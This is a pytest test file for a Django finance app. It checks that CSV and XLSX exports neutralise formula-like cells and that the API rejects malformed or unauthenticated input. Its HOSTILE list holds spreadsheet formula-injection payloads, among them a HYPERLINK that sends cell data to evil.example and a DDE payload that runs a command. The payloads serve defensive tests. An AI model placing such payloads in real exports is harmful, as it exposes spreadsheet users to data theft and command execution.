"""Input an attacker or a careless program sends, and exports a hostile name reaches: each answered with a
clear 4xx naming what is wrong, nothing written, and nothing in an export a spreadsheet would run."""

import io
import json

import openpyxl
import pytest
from django.test import Client

from credere.adapters.bankfiles import parse_statements
from credere.adapters.bankfiles.values import StatementError
from credere.adapters.erpfiles import values as cells
from credere.adapters.tables import to_csv_bytes, to_xlsx_bytes
from credere.identity.services import issue_token
from credere.ledger.models import Customer, OpenItem

pytestmark = pytest.mark.django_db

HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"Refund\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
           "\tleading tab", "\rleading return"]


@pytest.fixture
def api(admin, company):
    _, secret = issue_token(actor=None, user=admin, name="erp")
    client = Client(HTTP_AUTHORIZATION=f"Bearer {secret}")

    def call(method, path, body=None, raw=None, **params):
        if raw is not None:
            return getattr(client, method)(f"/api/v1{path}", raw, content_type="application/json")
        if body is not None:
            return getattr(client, method)(f"/api/v1{path}", json.dumps(body), content_type="application/json")
        return getattr(client, method)(f"/api/v1{path}", params)

    return call


def test_csv_cells_that_start_like_a_formula_are_written_as_text_and_amounts_stay_numbers():
    import csv
    from decimal import Decimal

    data = to_csv_bytes(["name", "amount"], [[name, Decimal("-12.50")] for name in HOSTILE]).decode()
    rows = list(csv.reader(io.StringIO(data, newline="")))[1:]
    assert [name for name, _amount in rows] == ["'" + name for name in HOSTILE]  # text, and nothing lost
    assert all(amount == "-12.50" for _name, amount in rows)


def test_xlsx_cells_that_start_like_a_formula_are_strings_not_formulas():
    from decimal import Decimal

    sheet = openpyxl.load_workbook(io.BytesIO(to_xlsx_bytes(["name", "amount"],
                                                            [[name, Decimal("-1.00")] for name in HOSTILE]))).active
    rows = list(sheet.iter_rows(min_row=2))
    assert [row[0].value for row in rows] == HOSTILE  # kept exactly, as text
    assert {row[0].data_type for row in rows} == {"s"} and {row[1].data_type for row in rows} == {"n"}


def test_a_hostile_customer_name_reaches_the_api_export_neutralised(api):
    assert api("post", "/customers", {"account_number": "EVIL", "name": HOSTILE[0]}).status_code == 201
    csv_text = api("get", "/imports/export/customers", format="csv").content.decode()
    assert "'=HYPERLINK" in csv_text and ",=HYPERLINK" not in csv_text
    book = openpyxl.load_workbook(io.BytesIO(api("get", "/imports/export/customers", format="xlsx").content))
    names = [cell for row in book.active.iter_rows() for cell in row if cell.value == HOSTILE[0]]
    assert names and all(cell.data_type == "s" for cell in names)


@pytest.mark.parametrize("depth", [40, 100_000])
def test_deeply_nested_json_is_a_400_not_a_server_error(api, depth):
    r = api("post", "/customers", raw="[" * depth + "]" * depth)
    assert r.status_code == 400 and r.json()["error"]["code"] == "too_deep"
    assert "nested more than 32 levels" in r.json()["error"]["message"]
    r = api("post", "/customers", raw='{"account_number": "C1", "name": ')
    assert r.status_code == 400 and r.json()["error"]["code"] == "invalid_json"


@pytest.mark.parametrize("amount", ["٣٤", "１２", "1٢.00", "12.٥0"])
def test_amounts_take_ascii_digits_only(api, customer, amount):
    r = api("post", "/items", {"company": "DE01", "customer_account": customer.account_number,
                               "document_type": "invoice", "document_number": "U-1", "document_date": "2026-03-01",
                               "due_date": "2026-03-31", "currency": "EUR", "amount": amount})
    assert r.status_code == 422 and r.json()["error"]["fields"][0]["field"] == "amount"
    assert not OpenItem.objects.filter(document_number="U-1").exists()
    with pytest.raises(ValueError, match="is not a number"):
        cells.decimal(amount)


@pytest.mark.parametrize(("value", "message"), [
    (0, "YYYY-MM-DD"), (1767225600, "YYYY-MM-DD"), ("0001-01-01", "between 1900-01-01 and 2199-12-31"),
    ("9999-12-31", "between"), ("2026-02-30", "not a day of the calendar"), ("２０２６-03-01", "YYYY-MM-DD"),
    ("2026-03-01T10:00:00", "YYYY-MM-DD"),
])
def test_days_are_iso_dates_in_a_plausible_range(api, customer, value, message):
    r = api("post", "/items", {"company": "DE01", "customer_account": customer.account_number,
                               "document_type": "invoice", "document_number": "D-1", "document_date": value,
                               "due_date": "2026-03-31", "currency": "EUR", "amount": "10.00"})
    assert r.status_code == 422
    [field] = r.json()["error"]["fields"]
    assert field["field"] == "document_date" and message in field["message"]
    r = api("get", "/items", due_after=str(value))
    assert r.status_code == 422 and r.json()["error"]["fields"][0]["field"] == "due_after"


def test_a_request_without_credentials_is_401_with_www_authenticate(client, company):
    before = Customer.objects.count()
    for method in ("get", "post"):
        r = getattr(client, method)("/api/v1/customers", json.dumps({"account_number": "X", "name": "X"}),
                                    content_type="application/json") if method == "post" else client.get(
            "/api/v1/customers")
        assert r.status_code == 401, (method, r.content)
        assert r["WWW-Authenticate"].startswith("Bearer")
        assert r.json()["error"]["code"] == "unauthenticated"
    assert Customer.objects.count() == before


def test_a_signed_in_session_still_needs_the_csrf_token_to_write(admin, company):
    browser = Client(enforce_csrf_checks=True)
    browser.force_login(admin)
    assert browser.get("/api/v1/customers").status_code == 200
    r = browser.post("/api/v1/customers", json.dumps({"account_number": "S1", "name": "Session Co"}),
                     content_type="application/json")
    assert r.status_code == 403
    assert not Customer.objects.filter(account_number="S1").exists()


def test_taking_more_than_is_open_is_409_over_allocation_on_every_endpoint(api, customer):
    item = api("post", "/items", {"company": "DE01", "customer_account": customer.account_number,
                                  "document_type": "invoice", "document_number": "O-1", "document_date": "2026-03-01",
                                  "due_date": "2026-03-31", "currency": "EUR", "amount": "100.00"}).json()
    pay = api("post", "/payments", {"company": "DE01", "reference": "P-O", "received_on": "2026-04-02",
                                    "currency": "EUR", "amount": "500.00"}).json()
    ledger = api("post", "/allocations", {"target_id": item["id"], "payment_id": pay["id"], "amount": "150.00",
                                          "applied_on": "2026-04-02"})
    cash = api("post", f"/cash/payments/{pay['id']}/match", {"lines": [{"item_id": item["id"], "amount": "150.00"}]})
    assert (ledger.status_code, ledger.json()["error"]["code"]) == (409, "over_allocation")
    assert (cash.status_code, cash.json()["error"]["code"]) == (409, "over_allocation")


BAI2 = ("01,BANK,CREDERE,261120,0800,1,80,,2/\n02,CREDERE,BANKID,1,261120,,USD,2/\n03,123456789,USD,010,100000,,/\n"
        "16,195,119000,0,BR-1,CUST-9,Northwind/\n49,219000,2/\n98,219000,1,3/\n99,219000,1,5/\n")


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "utf-16-be"])
def test_a_text_statement_saved_as_utf16_is_read(encoding):
    [statement] = parse_statements(BAI2.encode(encoding))
    assert [str(tx.amount) for tx in statement.transactions] == ["1190.00"]


def test_a_statement_with_nul_bytes_is_named_binary_not_an_unknown_format():
    with pytest.raises(StatementError, match="NUL bytes .*not a text or XML bank statement"):
        parse_statements(b"PK\x03\x04\x00\x00binary" + bytes(range(256)))
